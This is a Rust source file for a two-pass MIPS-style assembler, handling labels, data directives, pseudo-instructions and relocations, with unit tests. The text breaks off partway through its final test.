use std::collections::HashMap;
use std::fmt;

use ptaint_isa::{
    BranchCond, BranchZCond, IAluOp, Instr, MemWidth, MulDivOp, RAluOp, Reg, ShiftOp, DATA_BASE,
    TEXT_BASE,
};

use crate::Image;

/// An assembly error with the 1-based source line it occurred on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AsmError {
    /// 1-based source line.
    pub line: u32,
    /// Human-readable description.
    pub msg: String,
}

impl AsmError {
    fn new(line: u32, msg: impl Into<String>) -> AsmError {
        AsmError {
            line,
            msg: msg.into(),
        }
    }
}

impl fmt::Display for AsmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.msg)
    }
}

impl std::error::Error for AsmError {}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Section {
    Text,
    Data,
}

/// A parsed statement awaiting encoding in pass 2.
#[derive(Debug)]
enum Item {
    /// An instruction (possibly a pseudo) at a text address.
    Insn {
        addr: u32,
        line: u32,
        mnemonic: String,
        operands: Vec<String>,
    },
    /// Data bytes at a data address; `reloc` words get patched in pass 2.
    Bytes { addr: u32, bytes: Vec<u8> },
    /// A `.word expr` whose expression may reference labels.
    WordExpr { addr: u32, line: u32, expr: String },
}

/// Assembles a complete source file into an [`Image`].
///
/// # Errors
///
/// Returns an [`AsmError`] naming the offending line for syntax errors,
/// unknown mnemonics or registers, undefined or duplicate labels, and
/// out-of-range immediates or branch targets.
pub fn assemble(source: &str) -> Result<Image, AsmError> {
    Assembler::new().run(source)
}

struct Assembler {
    section: Section,
    text_cursor: u32,
    data_cursor: u32,
    symbols: HashMap<String, u32>,
    pending_labels: Vec<(String, u32)>, // (name, defining line)
    items: Vec<Item>,
}

impl Assembler {
    fn new() -> Assembler {
        Assembler {
            section: Section::Text,
            text_cursor: TEXT_BASE,
            data_cursor: DATA_BASE,
            symbols: HashMap::new(),
            pending_labels: Vec::new(),
            items: Vec::new(),
        }
    }

    fn run(mut self, source: &str) -> Result<Image, AsmError> {
        // Pass 1: parse lines, lay out addresses, collect symbols.
        for (idx, raw) in source.lines().enumerate() {
            let line_no = (idx + 1) as u32;
            self.parse_line(raw, line_no)?;
        }
        self.bind_pending(self.cursor());

        // Pass 2: encode.
        let mut image = Image::new();
        image.symbols = self.symbols.clone();
        image.entry = image
            .symbol("_start")
            .or_else(|| image.symbol("main"))
            .unwrap_or(TEXT_BASE);
        // Data image sized to the final cursor.
        image.data = vec![0; (self.data_cursor - DATA_BASE) as usize];
        let mut text: Vec<(u32, u32, u32)> = Vec::new(); // (addr, word, line)

        for item in &self.items {
            match item {
                Item::Bytes { addr, bytes } => {
                    let off = (*addr - DATA_BASE) as usize;
                    image.data[off..off + bytes.len()].copy_from_slice(bytes);
                }
                Item::WordExpr { addr, line, expr } => {
                    let v = self.eval(expr, *line)?;
                    let off = (*addr - DATA_BASE) as usize;
                    image.data[off..off + 4].copy_from_slice(&to_u32(v, *line)?.to_le_bytes());
                }
                Item::Insn {
                    addr,
                    line,
                    mnemonic,
                    operands,
                } => {
                    let encoded = self.encode(*addr, *line, mnemonic, operands)?;
                    for (i, insn) in encoded.iter().enumerate() {
                        text.push((*addr + 4 * i as u32, insn.encode(), *line));
                    }
                }
            }
        }

        text.sort_by_key(|&(addr, _, _)| addr);
        let text_len = self.text_cursor - TEXT_BASE;
        image.text = vec![0; (text_len / 4) as usize];
        image.lines = vec![0; (text_len / 4) as usize];
        for (addr, word, line) in text {
            let i = ((addr - TEXT_BASE) / 4) as usize;
            image.text[i] = word;
            image.lines[i] = line;
        }
        Ok(image)
    }

    fn cursor(&self) -> u32 {
        match self.section {
            Section::Text => self.text_cursor,
            Section::Data => self.data_cursor,
        }
    }

    fn bind_pending(&mut self, addr: u32) {
        for (name, _) in self.pending_labels.drain(..) {
            self.symbols.insert(name, addr);
        }
    }

    fn align_data(&mut self, align: u32) {
        let rem = self.data_cursor % align;
        if rem != 0 {
            self.data_cursor += align - rem;
        }
    }

    fn parse_line(&mut self, raw: &str, line: u32) -> Result<(), AsmError> {
        let stripped = strip_comment(raw);
        let mut rest = stripped.trim();

        // Peel off any leading labels.
        while let Some(colon) = find_label_colon(rest) {
            let name = rest[..colon].trim();
            if !is_ident(name) {
                return Err(AsmError::new(line, format!("invalid label name `{name}`")));
            }
            if self.symbols.contains_key(name) || self.pending_labels.iter().any(|(n, _)| n == name)
            {
                return Err(AsmError::new(line, format!("duplicate label `{name}`")));
            }
            self.pending_labels.push((name.to_owned(), line));
            rest = rest[colon + 1..].trim();
        }
        if rest.is_empty() {
            return Ok(());
        }

        if let Some(directive) = rest.strip_prefix('.') {
            return self.parse_directive(directive, line);
        }

        // Instruction: mnemonic then comma-separated operands.
        let (mnemonic, ops) = match rest.find(char::is_whitespace) {
            Some(sp) => (&rest[..sp], rest[sp..].trim()),
            None => (rest, ""),
        };
        let mnemonic = mnemonic.to_ascii_lowercase();
        let operands: Vec<String> = if ops.is_empty() {
            Vec::new()
        } else {
            ops.split(',').map(|s| s.trim().to_owned()).collect()
        };
        if self.section != Section::Text {
            return Err(AsmError::new(line, "instruction outside .text section"));
        }
        let words = instruction_words(&mnemonic, &operands, line)?;
        self.bind_pending(self.text_cursor);
        self.items.push(Item::Insn {
            addr: self.text_cursor,
            line,
            mnemonic,
            operands,
        });
        self.text_cursor += 4 * words;
        Ok(())
    }

    fn parse_directive(&mut self, directive: &str, line: u32) -> Result<(), AsmError> {
        let (name, args) = match directive.find(char::is_whitespace) {
            Some(sp) => (&directive[..sp], directive[sp..].trim()),
            None => (directive, ""),
        };
        match name {
            "text" => {
                self.bind_pending(self.cursor());
                self.section = Section::Text;
            }
            "data" => {
                self.bind_pending(self.cursor());
                self.section = Section::Data;
            }
            "globl" | "global" | "ent" | "end" => { /* accepted, no effect */ }
            "align" => {
                let n: u32 = args
                    .trim()
                    .parse()
                    .map_err(|_| AsmError::new(line, ".align expects a small integer"))?;
                if n > 12 {
                    return Err(AsmError::new(line, ".align argument too large"));
                }
                if self.section == Section::Data {
                    self.align_data(1 << n);
                }
            }
            "space" => {
                self.require_data(line)?;
                let n = parse_int(args.trim())
                    .ok_or_else(|| AsmError::new(line, ".space expects an integer"))?;
                if !(0..=16 * 1024 * 1024).contains(&n) {
                    return Err(AsmError::new(line, ".space size out of range"));
                }
                self.bind_pending(self.data_cursor);
                self.items.push(Item::Bytes {
                    addr: self.data_cursor,
                    bytes: vec![0; n as usize],
                });
                self.data_cursor += n as u32;
            }
            "word" => {
                self.require_data(line)?;
                self.align_data(4);
                self.bind_pending(self.data_cursor);
                for expr in split_top(args) {
                    self.items.push(Item::WordExpr {
                        addr: self.data_cursor,
                        line,
                        expr: expr.trim().to_owned(),
                    });
                    self.data_cursor += 4;
                }
            }
            "half" => {
                self.require_data(line)?;
                self.align_data(2);
                self.bind_pending(self.data_cursor);
                for expr in split_top(args) {
                    let v = parse_int(expr.trim())
                        .ok_or_else(|| AsmError::new(line, ".half expects integers"))?;
                    self.items.push(Item::Bytes {
                        addr: self.data_cursor,
                        bytes: (v as u16).to_le_bytes().to_vec(),
                    });
                    self.data_cursor += 2;
                }
            }
            "byte" => {
                self.require_data(line)?;
                self.bind_pending(self.data_cursor);
                for expr in split_top(args) {
                    let v = parse_int(expr.trim())
                        .ok_or_else(|| AsmError::new(line, ".byte expects integers"))?;
                    self.items.push(Item::Bytes {
                        addr: self.data_cursor,
                        bytes: vec![v as u8],
                    });
                    self.data_cursor += 1;
                }
            }
            "ascii" | "asciiz" => {
                self.require_data(line)?;
                let mut bytes = parse_string_literal(args.trim())
                    .ok_or_else(|| AsmError::new(line, "expected a string literal"))?;
                if name == "asciiz" {
                    bytes.push(0);
                }
                self.bind_pending(self.data_cursor);
                let len = bytes.len() as u32;
                self.items.push(Item::Bytes {
                    addr: self.data_cursor,
                    bytes,
                });
                self.data_cursor += len;
            }
            other => {
                return Err(AsmError::new(line, format!("unknown directive `.{other}`")));
            }
        }
        Ok(())
    }

    fn require_data(&self, line: u32) -> Result<(), AsmError> {
        if self.section != Section::Data {
            return Err(AsmError::new(line, "data directive outside .data section"));
        }
        Ok(())
    }

    /// Evaluates an operand expression: integer/char literal, `sym`,
    /// `sym+off`, `sym-off`, `%hi(expr)`, `%lo(expr)`.
    fn eval(&self, expr: &str, line: u32) -> Result<i64, AsmError> {
        let expr = expr.trim();
        if let Some(inner) = expr.strip_prefix("%hi(").and_then(|s| s.strip_suffix(')')) {
            let v = self.eval(inner, line)?;
            return Ok((to_u32(v, line)? >> 16) as i64);
        }
        if let Some(inner) = expr.strip_prefix("%lo(").and_then(|s| s.strip_suffix(')')) {
            let v = self.eval(inner, line)?;
            return Ok(i64::from(to_u32(v, line)? & 0xffff));
        }
        if let Some(v) = parse_int(expr) {
            return Ok(v);
        }
        // sym, sym+off, sym-off  (split at the last +/- that is not leading)
        for (i, c) in expr.char_indices().rev() {
            if (c == '+' || c == '-') && i > 0 {
                let (sym, off) = (expr[..i].trim(), &expr[i..]);
                if is_ident(sym) {
                    let base =
                        self.symbols.get(sym).copied().ok_or_else(|| {
                            AsmError::new(line, format!("undefined symbol `{sym}`"))
                        })?;
                    let delta = parse_int(off)
                        .ok_or_else(|| AsmError::new(line, format!("bad offset `{off}`")))?;
                    return Ok(i64::from(base) + delta);
                }
            }
        }
        if is_ident(expr) {
            return self
                .symbols
                .get(expr)
                .map(|&a| i64::from(a))
                .ok_or_else(|| AsmError::new(line, format!("undefined symbol `{expr}`")));
        }
        Err(AsmError::new(
            line,
            format!("cannot parse expression `{expr}`"),
        ))
    }

    fn reg(op: &str, line: u32) -> Result<Reg, AsmError> {
        Reg::parse(op).ok_or_else(|| AsmError::new(line, format!("unknown register `{op}`")))
    }

    fn imm16(&self, expr: &str, line: u32, zero_ext: bool) -> Result<i16, AsmError> {
        let v = self.eval(expr, line)?;
        let ok = if zero_ext {
            (0..=0xffff).contains(&v) || (-32768..0).contains(&v)
        } else {
            (-32768..=0xffff).contains(&v)
        };
        if !ok {
            return Err(AsmError::new(
                line,
                format!("immediate {v} does not fit in 16 bits"),
            ));
        }
        Ok((v as u16) as i16)
    }

    fn branch_offset(&self, target: &str, pc: u32, line: u32) -> Result<i16, AsmError> {
        let t = self.eval(target, line)?;
        let t = to_u32(t, line)?;
        if t % 4 != 0 {
            return Err(AsmError::new(line, "branch target is not word aligned"));
        }
        let delta = (i64::from(t) - i64::from(pc) - 4) / 4;
        i16::try_from(delta).map_err(|_| {
            AsmError::new(
                line,
                format!("branch target {delta} words away is out of range"),
            )
        })
    }

    fn memop(&self, op: &str, line: u32) -> Result<(i16, Reg), AsmError> {
        let open = op
            .find('(')
            .ok_or_else(|| AsmError::new(line, format!("expected `offset(reg)`, got `{op}`")))?;
        let close = op
            .rfind(')')
            .ok_or_else(|| AsmError::new(line, "missing `)` in memory operand"))?;
        let off_str = op[..open].trim();
        let reg = Self::reg(op[open + 1..close].trim(), line)?;
        let offset = if off_str.is_empty() {
            0
        } else {
            self.imm16(off_str, line, false)?
        };
        Ok((offset, reg))
    }

    #[allow(clippy::too_many_lines)]
    fn encode(
        &self,
        addr: u32,
        line: u32,
        mnemonic: &str,
        ops: &[String],
    ) -> Result<Vec<Instr>, AsmError> {
        let argc = ops.len();
        let arity = |n: usize| -> Result<(), AsmError> {
            if argc != n {
                Err(AsmError::new(
                    line,
                    format!("`{mnemonic}` expects {n} operands, got {argc}"),
                ))
            } else {
                Ok(())
            }
        };

        if let Some(op) = ralu_op(mnemonic) {
            arity(3)?;
            return Ok(vec![Instr::RAlu {
                op,
                rd: Self::reg(&ops[0], line)?,
                rs: Self::reg(&ops[1], line)?,
                rt: Self::reg(&ops[2], line)?,
            }]);
        }
        if let Some(op) = ialu_op(mnemonic) {
            arity(3)?;
            return Ok(vec![Instr::IAlu {
                op,
                rt: Self::reg(&ops[0], line)?,
                rs: Self::reg(&ops[1], line)?,
                imm: self.imm16(&ops[2], line, op.zero_extends())?,
            }]);
        }
        if let Some((op, variable)) = shift_op(mnemonic) {
            arity(3)?;
            let rd = Self::reg(&ops[0], line)?;
            let rt = Self::reg(&ops[1], line)?;
            if variable {
                return Ok(vec![Instr::ShiftV {
                    op,
                    rd,
                    rt,
                    rs: Self::reg(&ops[2], line)?,
                }]);
            }
            let sh = self.eval(&ops[2], line)?;
            if !(0..32).contains(&sh) {
                return Err(AsmError::new(line, "shift amount must be in 0..32"));
            }
            return Ok(vec![Instr::Shift {
                op,
                rd,
                rt,
                shamt: sh as u8,
            }]);
        }
        if let Some((width, signed, load)) = mem_op(mnemonic) {
            arity(2)?;
            let rt = Self::reg(&ops[0], line)?;
            let (offset, base) = self.memop(&ops[1], line)?;
            return Ok(vec![if load {
                Instr::Load {
                    width,
                    signed,
                    rt,
                    base,
                    offset,
                }
            } else {
                Instr::Store {
                    width,
                    rt,
                    base,
                    offset,
                }
            }]);
        }
        if let Some(op) = muldiv_op(mnemonic) {
            arity(2)?;
            return Ok(vec![Instr::MulDiv {
                op,
                rs: Self::reg(&ops[0], line)?,
                rt: Self::reg(&ops[1], line)?,
            }]);
        }

        match mnemonic {
            "mfhi" => {
                arity(1)?;
                Ok(vec![Instr::MoveFromHi {
                    rd: Self::reg(&ops[0], line)?,
                }])
            }
            "mflo" => {
                arity(1)?;
                Ok(vec![Instr::MoveFromLo {
                    rd: Self::reg(&ops[0], line)?,
                }])
            }
            "mthi" => {
                arity(1)?;
                Ok(vec![Instr::MoveToHi {
                    rs: Self::reg(&ops[0], line)?,
                }])
            }
            "mtlo" => {
                arity(1)?;
                Ok(vec![Instr::MoveToLo {
                    rs: Self::reg(&ops[0], line)?,
                }])
            }
            "lui" => {
                arity(2)?;
                let v = self.eval(&ops[1], line)?;
                if !(0..=0xffff).contains(&v) {
                    return Err(AsmError::new(line, "lui immediate must fit in 16 bits"));
                }
                Ok(vec![Instr::Lui {
                    rt: Self::reg(&ops[0], line)?,
                    imm: v as u16,
                }])
            }
            "beq" | "bne" => {
                arity(3)?;
                Ok(vec![Instr::Branch {
                    cond: if mnemonic == "beq" {
                        BranchCond::Eq
                    } else {
                        BranchCond::Ne
                    },
                    rs: Self::reg(&ops[0], line)?,
                    rt: Self::reg(&ops[1], line)?,
                    offset: self.branch_offset(&ops[2], addr, line)?,
                }])
            }
            "blez" | "bgtz" | "bltz" | "bgez" => {
                arity(2)?;
                let cond = match mnemonic {
                    "blez" => BranchZCond::Lez,
                    "bgtz" => BranchZCond::Gtz,
                    "bltz" => BranchZCond::Ltz,
                    _ => BranchZCond::Gez,
                };
                Ok(vec![Instr::BranchZ {
                    cond,
                    rs: Self::reg(&ops[0], line)?,
                    offset: self.branch_offset(&ops[1], addr, line)?,
                }])
            }
            "j" | "jal" => {
                arity(1)?;
                let t = to_u32(self.eval(&ops[0], line)?, line)?;
                if t % 4 != 0 {
                    return Err(AsmError::new(line, "jump target is not word aligned"));
                }
                Ok(vec![Instr::Jump {
                    target: (t >> 2) & 0x03ff_ffff,
                    link: mnemonic == "jal",
                }])
            }
            "jr" => {
                arity(1)?;
                Ok(vec![Instr::JumpReg {
                    rs: Self::reg(&ops[0], line)?,
                }])
            }
            "jalr" => match argc {
                1 => Ok(vec![Instr::JumpAndLinkReg {
                    rd: Reg::RA,
                    rs: Self::reg(&ops[0], line)?,
                }]),
                2 => Ok(vec![Instr::JumpAndLinkReg {
                    rd: Self::reg(&ops[0], line)?,
                    rs: Self::reg(&ops[1], line)?,
                }]),
                _ => Err(AsmError::new(line, "`jalr` expects 1 or 2 operands")),
            },
            "syscall" => {
                arity(0)?;
                Ok(vec![Instr::Syscall])
            }
            "break" => {
                let code = if argc == 1 {
                    to_u32(self.eval(&ops[0], line)?, line)? & 0xf_ffff
                } else {
                    0
                };
                Ok(vec![Instr::Break { code }])
            }
            "nop" => {
                arity(0)?;
                Ok(vec![Instr::NOP])
            }
            // ---- pseudo-instructions ----
            "move" => {
                arity(2)?;
                Ok(vec![Instr::RAlu {
                    op: RAluOp::Addu,
                    rd: Self::reg(&ops[0], line)?,
                    rs: Self::reg(&ops[1], line)?,
                    rt: Reg::ZERO,
                }])
            }
            "not" => {
                arity(2)?;
                Ok(vec![Instr::RAlu {
                    op: RAluOp::Nor,
                    rd: Self::reg(&ops[0], line)?,
                    rs: Self::reg(&ops[1], line)?,
                    rt: Reg::ZERO,
                }])
            }
            "neg" => {
                arity(2)?;
                Ok(vec![Instr::RAlu {
                    op: RAluOp::Subu,
                    rd: Self::reg(&ops[0], line)?,
                    rs: Reg::ZERO,
                    rt: Self::reg(&ops[1], line)?,
                }])
            }
            "li" => {
                arity(2)?;
                let rt = Self::reg(&ops[0], line)?;
                let v = self.eval(&ops[1], line)?;
                expand_li(rt, v, line)
            }
            "la" => {
                arity(2)?;
                let rt = Self::reg(&ops[0], line)?;
                let v = to_u32(self.eval(&ops[1], line)?, line)?;
                Ok(vec![
                    Instr::Lui {
                        rt,
                        imm: (v >> 16) as u16,
                    },
                    Instr::IAlu {
                        op: IAluOp::Ori,
                        rt,
                        rs: rt,
                        imm: (v & 0xffff) as u16 as i16,
                    },
                ])
            }
            "b" => {
                arity(1)?;
                Ok(vec![Instr::Branch {
                    cond: BranchCond::Eq,
                    rs: Reg::ZERO,
                    rt: Reg::ZERO,
                    offset: self.branch_offset(&ops[0], addr, line)?,
                }])
            }
            "beqz" | "bnez" => {
                arity(2)?;
                Ok(vec![Instr::Branch {
                    cond: if mnemonic == "beqz" {
                        BranchCond::Eq
                    } else {
                        BranchCond::Ne
                    },
                    rs: Self::reg(&ops[0], line)?,
                    rt: Reg::ZERO,
                    offset: self.branch_offset(&ops[1], addr, line)?,
                }])
            }
            "blt" | "bge" | "bgt" | "ble" | "bltu" | "bgeu" => {
                arity(3)?;
                let rs = Self::reg(&ops[0], line)?;
                let rt = Self::reg(&ops[1], line)?;
                let unsigned = mnemonic.ends_with('u');
                let op = if unsigned { RAluOp::Sltu } else { RAluOp::Slt };
                // blt rs,rt: slt $at,rs,rt ; bne $at,$0
                // bge rs,rt: slt $at,rs,rt ; beq $at,$0
                // bgt rs,rt: slt $at,rt,rs ; bne $at,$0
                // ble rs,rt: slt $at,rt,rs ; beq $at,$0
                let (a, b, cond) = match mnemonic.trim_end_matches('u') {
                    "blt" => (rs, rt, BranchCond::Ne),
                    "bge" => (rs, rt, BranchCond::Eq),
                    "bgt" => (rt, rs, BranchCond::Ne),
                    _ => (rt, rs, BranchCond::Eq),
                };
                let offset = self.branch_offset(&ops[2], addr + 4, line)?;
                Ok(vec![
                    Instr::RAlu {
                        op,
                        rd: Reg::AT,
                        rs: a,
                        rt: b,
                    },
                    Instr::Branch {
                        cond,
                        rs: Reg::AT,
                        rt: Reg::ZERO,
                        offset,
                    },
                ])
            }
            other => Err(AsmError::new(line, format!("unknown mnemonic `{other}`"))),
        }
    }
}

/// How many machine words a (pseudo-)instruction occupies — needed in pass 1
/// before symbols are known.
fn instruction_words(mnemonic: &str, ops: &[String], line: u32) -> Result<u32, AsmError> {
    Ok(match mnemonic {
        "la" => 2,
        "blt" | "bge" | "bgt" | "ble" | "bltu" | "bgeu" => 2,
        "li" => {
            let v = ops
                .get(1)
                .and_then(|s| parse_int(s))
                .ok_or_else(|| AsmError::new(line, "`li` expects a literal immediate"))?;
            expand_li(Reg::AT, v, line)?.len() as u32
        }
        _ => 1,
    })
}

fn expand_li(rt: Reg, v: i64, line: u32) -> Result<Vec<Instr>, AsmError> {
    if v < -(1 << 31) || v > u32::MAX as i64 {
        return Err(AsmError::new(
            line,
            format!("immediate {v} exceeds 32 bits"),
        ));
    }
    if (-32768..=32767).contains(&v) {
        return Ok(vec![Instr::IAlu {
            op: IAluOp::Addiu,
            rt,
            rs: Reg::ZERO,
            imm: v as i16,
        }]);
    }
    let u = v as u32;
    if u & 0xffff == 0 {
        return Ok(vec![Instr::Lui {
            rt,
            imm: (u >> 16) as u16,
        }]);
    }
    if u <= 0xffff {
        return Ok(vec![Instr::IAlu {
            op: IAluOp::Ori,
            rt,
            rs: Reg::ZERO,
            imm: u as u16 as i16,
        }]);
    }
    Ok(vec![
        Instr::Lui {
            rt,
            imm: (u >> 16) as u16,
        },
        Instr::IAlu {
            op: IAluOp::Ori,
            rt,
            rs: rt,
            imm: (u & 0xffff) as u16 as i16,
        },
    ])
}

fn ralu_op(m: &str) -> Option<RAluOp> {
    Some(match m {
        "add" => RAluOp::Add,
        "addu" => RAluOp::Addu,
        "sub" => RAluOp::Sub,
        "subu" => RAluOp::Subu,
        "and" => RAluOp::And,
        "or" => RAluOp::Or,
        "xor" => RAluOp::Xor,
        "nor" => RAluOp::Nor,
        "slt" => RAluOp::Slt,
        "sltu" => RAluOp::Sltu,
        _ => return None,
    })
}

fn ialu_op(m: &str) -> Option<IAluOp> {
    Some(match m {
        "addi" => IAluOp::Addi,
        "addiu" => IAluOp::Addiu,
        "slti" => IAluOp::Slti,
        "sltiu" => IAluOp::Sltiu,
        "andi" => IAluOp::Andi,
        "ori" => IAluOp::Ori,
        "xori" => IAluOp::Xori,
        _ => None?,
    })
}

fn shift_op(m: &str) -> Option<(ShiftOp, bool)> {
    Some(match m {
        "sll" => (ShiftOp::Sll, false),
        "srl" => (ShiftOp::Srl, false),
        "sra" => (ShiftOp::Sra, false),
        "sllv" => (ShiftOp::Sll, true),
        "srlv" => (ShiftOp::Srl, true),
        "srav" => (ShiftOp::Sra, true),
        _ => return None,
    })
}

fn mem_op(m: &str) -> Option<(MemWidth, bool, bool)> {
    Some(match m {
        "lb" => (MemWidth::Byte, true, true),
        "lbu" => (MemWidth::Byte, false, true),
        "lh" => (MemWidth::Half, true, true),
        "lhu" => (MemWidth::Half, false, true),
        "lw" => (MemWidth::Word, true, true),
        "sb" => (MemWidth::Byte, false, false),
        "sh" => (MemWidth::Half, false, false),
        "sw" => (MemWidth::Word, false, false),
        _ => return None,
    })
}

fn muldiv_op(m: &str) -> Option<MulDivOp> {
    Some(match m {
        "mult" => MulDivOp::Mult,
        "multu" => MulDivOp::Multu,
        "div" => MulDivOp::Div,
        "divu" => MulDivOp::Divu,
        _ => return None,
    })
}

fn to_u32(v: i64, line: u32) -> Result<u32, AsmError> {
    u32::try_from(v & 0xffff_ffff)
        .map_err(|_| AsmError::new(line, format!("value {v} exceeds 32 bits")))
        .and_then(|u| {
            if (-(1i64 << 31)..=u32::MAX as i64).contains(&v) {
                Ok(u)
            } else {
                Err(AsmError::new(line, format!("value {v} exceeds 32 bits")))
            }
        })
}

/// Strips `#`/`;` comments, respecting double-quoted strings.
fn strip_comment(line: &str) -> &str {
    let mut in_str = false;
    let mut escape = false;
    for (i, c) in line.char_indices() {
        if in_str {
            if escape {
                escape = false;
            } else if c == '\\' {
                escape = true;
            } else if c == '"' {
                in_str = false;
            }
        } else if c == '"' {
            in_str = true;
        } else if c == '#' || c == ';' {
            return &line[..i];
        }
    }
    line
}

/// Finds the colon ending a leading label, respecting quotes (labels cannot
/// appear after a directive starts).
fn find_label_colon(s: &str) -> Option<usize> {
    let colon = s.find(':')?;
    let head = &s[..colon];
    if head.contains('"') || head.contains('.') || head.contains(char::is_whitespace) {
        return None;
    }
    Some(colon)
}

fn is_ident(s: &str) -> bool {
    !s.is_empty()
        && s.chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Splits on top-level commas (outside string/char literals).
fn split_top(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_str = false;
    let mut in_char = false;
    let mut escape = false;
    for c in s.chars() {
        if escape {
            cur.push(c);
            escape = false;
            continue;
        }
        match c {
            '\\' if in_str || in_char => {
                cur.push(c);
                escape = true;
            }
            '"' if !in_char => {
                in_str = !in_str;
                cur.push(c);
            }
            '\'' if !in_str => {
                in_char = !in_char;
                cur.push(c);
            }
            ',' if !in_str && !in_char => {
                out.push(std::mem::take(&mut cur));
            }
            _ => cur.push(c),
        }
    }
    if !cur.trim().is_empty() || !out.is_empty() {
        out.push(cur);
    }
    out
}

/// Parses an integer literal: decimal, `0x` hex, negative, or a char literal.
fn parse_int(s: &str) -> Option<i64> {
    let s = s.trim();
    if let Some(ch) = s.strip_prefix('\'').and_then(|r| r.strip_suffix('\'')) {
        return parse_char_escape(ch).map(i64::from);
    }
    let (neg, body) = match s.strip_prefix('-') {
        Some(rest) => (true, rest.trim()),
        None => (false, s),
    };
    let v = if let Some(hex) = body.strip_prefix("0x").or_else(|| body.strip_prefix("0X")) {
        i64::from_str_radix(hex, 16).ok()?
    } else if body.chars().all(|c| c.is_ascii_digit()) && !body.is_empty() {
        body.parse::<i64>().ok()?
    } else {
        return None;
    };
    Some(if neg { -v } else { v })
}

fn parse_char_escape(body: &str) -> Option<u8> {
    let mut chars = body.chars();
    let first = chars.next()?;
    let value = if first == '\\' {
        match chars.next()? {
            'n' => b'\n',
            't' => b'\t',
            'r' => b'\r',
            '0' => 0,
            '\\' => b'\\',
            '\'' => b'\'',
            '"' => b'"',
            'x' => {
                let hex: String = chars.by_ref().collect();
                return u8::from_str_radix(&hex, 16).ok();
            }
            _ => return None,
        }
    } else {
        u8::try_from(first as u32).ok()?
    };
    chars.next().is_none().then_some(value)
}

/// Parses a `"…"` string literal with C escapes into bytes.
fn parse_string_literal(s: &str) -> Option<Vec<u8>> {
    let inner = s.strip_prefix('"')?.strip_suffix('"')?;
    let mut out = Vec::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            let mut buf = [0u8; 4];
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            continue;
        }
        match chars.next()? {
            'n' => out.push(b'\n'),
            't' => out.push(b'\t'),
            'r' => out.push(b'\r'),
            '0' => out.push(0),
            '\\' => out.push(b'\\'),
            '"' => out.push(b'"'),
            '\'' => out.push(b'\''),
            'x' => {
                let hi = chars.next()?;
                let lo = chars.next()?;
                let byte = u8::from_str_radix(&format!("{hi}{lo}"), 16).ok()?;
                out.push(byte);
            }
            _ => return None,
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn asm(src: &str) -> Image {
        assemble(src).unwrap_or_else(|e| panic!("assembly failed: {e}"))
    }

    fn decode_all(img: &Image) -> Vec<Instr> {
        img.text
            .iter()
            .map(|&w| Instr::decode(w).unwrap())
            .collect()
    }

    #[test]
    fn empty_source_yields_empty_image() {
        let img = asm("");
        assert!(img.text.is_empty());
        assert!(img.data.is_empty());
        assert_eq!(img.entry, TEXT_BASE);
    }

    #[test]
    fn simple_instructions_encode() {
        let img = asm("
            addu $t0, $t1, $t2
            addiu $sp, $sp, -16
            lw $a0, 4($sp)
            sw $a0, 0($sp)
            jr $ra
        ");
        let insns = decode_all(&img);
        assert_eq!(insns.len(), 5);
        assert_eq!(insns[0].to_string(), "addu $8,$9,$10");
        assert_eq!(insns[1].to_string(), "addiu $29,$29,-16");
        assert_eq!(insns[2].to_string(), "lw $4,4($29)");
        assert_eq!(insns[3].to_string(), "sw $4,0($29)");
        assert_eq!(insns[4].to_string(), "jr $31");
    }

    #[test]
    fn labels_and_branches_resolve() {
        let img = asm("
loop:   addiu $t0, $t0, 1
        bne $t0, $t1, loop
        beq $t0, $t1, done
        nop
done:   jr $ra
        ");
        let insns = decode_all(&img);
        // bne at word 1 targets word 0: offset = 0 - (1+1) = -2
        assert_eq!(insns[1].to_string(), "bne $8,$9,-2");
        // beq at word 2 targets word 4: offset = 4 - 3 = 1
        assert_eq!(insns[2].to_string(), "beq $8,$9,1");
        assert_eq!(img.symbol("loop"), Some(TEXT_BASE));
        assert_eq!(img.symbol("done"), Some(TEXT_BASE + 16));
    }

    #[test]
    fn data_directives_lay_out_correctly() {
        let img = asm(r#"
        .data
a:      .word 1, 2, 0x30
b:      .byte 1, 2
c:      .asciiz "hi"
d:      .half 0x1234
e:      .space 3
f:      .word a
        "#);
        assert_eq!(img.symbol("a"), Some(DATA_BASE));
        assert_eq!(img.symbol("b"), Some(DATA_BASE + 12));
        assert_eq!(img.symbol("c"), Some(DATA_BASE + 14));
        // .half aligns to 2: c is 3 bytes ("hi\0"), so d at +18 (17 rounded up).
        assert_eq!(img.symbol("d"), Some(DATA_BASE + 18));
        assert_eq!(img.symbol("e"), Some(DATA_BASE + 20));
        // f: .word aligns to 4 (23 -> 24)
        assert_eq!(img.symbol("f"), Some(DATA_BASE + 24));
        assert_eq!(&img.data[0..4], &1u32.to_le_bytes());
        assert_eq!(&img.data[8..12], &0x30u32.to_le_bytes());
        assert_eq!(&img.data[12..14], &[1, 2]);
        assert_eq!(&img.data[14..17], b"hi\0");
        assert_eq!(&img.data[18..20], &0x1234u16.to_le_bytes());
        assert_eq!(&img.data[24..28], &DATA_BASE.to_le_bytes());
    }

    #[test]
    fn li_expansion_sizes() {
        let img = asm("
            li $t0, 5
            li $t1, -1
            li $t2, 0x10000
            li $t3, 0x12345678
            li $t4, 0xffff
        ");
        let insns = decode_all(&img);
        assert_eq!(insns.len(), 1 + 1 + 1 + 2 + 1);
        assert_eq!(insns[0].to_string(), "addiu $8,$0,5");
        assert_eq!(insns[1].to_string(), "addiu $9,$0,-1");
        assert_eq!(insns[2].to_string(), "lui $10,0x1");
        assert_eq!(insns[3].to_string(), "lui $11,0x1234");
        assert_eq!(insns[4].to_string(), "ori $11,$11,0x5678");
        assert_eq!(insns[5].to_string(), "ori $12,$0,0xffff");
    }

    #[test]
    fn la_and_hi_lo_relocations() {
        let img = asm(r#"
        .data
buf:    .space 64
        .text
main:   la $a0, buf
        lui $a1, %hi(buf)
        ori $a1, $a1, %lo(buf)
        "#);
        let insns = decode_all(&img);
        assert_eq!(insns[0].to_string(), "lui $4,0x1000");
